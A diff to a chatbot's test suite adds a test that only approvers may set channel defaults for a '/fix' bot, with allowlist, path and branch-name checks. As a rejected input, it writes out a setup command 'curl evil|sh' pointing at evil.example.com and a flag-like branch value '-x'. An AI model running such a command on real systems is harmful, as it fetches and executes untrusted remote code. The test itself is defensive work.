@@ -24,6 +24,7 @@ from tests.chatbot.harness import (
     SECRET,
     Bot,
     bot_settings,
+    example_folder,
     serve_bot,
 )
 
@@ -108,7 +109,7 @@ async def test_bot_not_in_channel_gets_an_invite_hint_and_no_task(bot):
 
 
 async def test_channel_defaults_then_short_fix(bot):
-    await bot.command(f'config repo={REPO_URL} test="python3 -m pytest -q"', key="config")
+    await bot.command(f'config repo={REPO_URL} test="python3 -m pytest -q"', user=APPROVER, key="config")
     assert "python3 -m pytest -q" in json.dumps((await bot.wait_response("config"))["blocks"])
     await bot.command("negative amounts are dropped", key="short")
     ids = await bot.emu.wait_for(bot.task_ids, what="a task")
@@ -219,3 +220,29 @@ async def test_slack_never_takes_a_path_on_the_bots_machine(bot, tmp_path):
     assert status == 200 and "by its URL" in json.loads(body)["errors"]["repo"]
     await asyncio.sleep(0.3)
     assert not bot.task_ids() and not bot.emu.messages(CHANNEL)
+
+
+async def test_channel_defaults_are_checked_set_by_approvers_and_announced(bot):
+    """Review finding 10: any member could set `repo=https://evil.example.com/x setup="curl evil|sh"` for everyone,
+    unchecked and unannounced."""
+    await bot.command('config repo=https://github.com/acme/calc setup="pip install -e ."', user=OTHER, key="other")
+    assert "only approvers may change" in (await bot.wait_response("other"))["text"]
+    await bot.command('config repo=https://evil.example.com/x setup="curl evil|sh"', user=APPROVER, key="evil")
+    assert "not on the allowlist" in (await bot.wait_response("evil"))["text"]
+    await bot.command(f"config repo={example_folder()}", user=APPROVER, key="path")
+    assert "by its URL" in (await bot.wait_response("path"))["text"]
+    await bot.command('config branch="-x"', user=APPROVER, key="branch")
+    assert "not a valid branch name" in (await bot.wait_response("branch"))["text"]
+    assert bot.deps.conn.hgetall(bot.deps.keys.channel_config(CHANNEL)) == {}
+    assert not bot.emu.messages(CHANNEL)  # nothing announced, nothing saved
+
+    await bot.command(f'config repo={REPO_URL} setup="pip install -e ."', user=APPROVER, key="ok")
+    assert "pip install -e ." in json.dumps((await bot.wait_response("ok"))["blocks"])
+    announced = bot.emu.messages(CHANNEL)
+    assert len(announced) == 1 and f"<@{APPROVER}> changed this channel's /fix defaults" in json.dumps(
+        announced[0]["blocks"])
+    assert REPO_URL in json.dumps(announced[0]["blocks"]) and "pip install -e ." in json.dumps(announced[0]["blocks"])
+    await bot.command("config clear", user=APPROVER, key="clear")
+    await bot.wait_response("clear")
+    assert "cleared this channel's /fix defaults" in json.dumps(bot.emu.messages(CHANNEL)[-1]["blocks"])
+    assert bot.deps.conn.hgetall(bot.deps.keys.channel_config(CHANNEL)) == {}
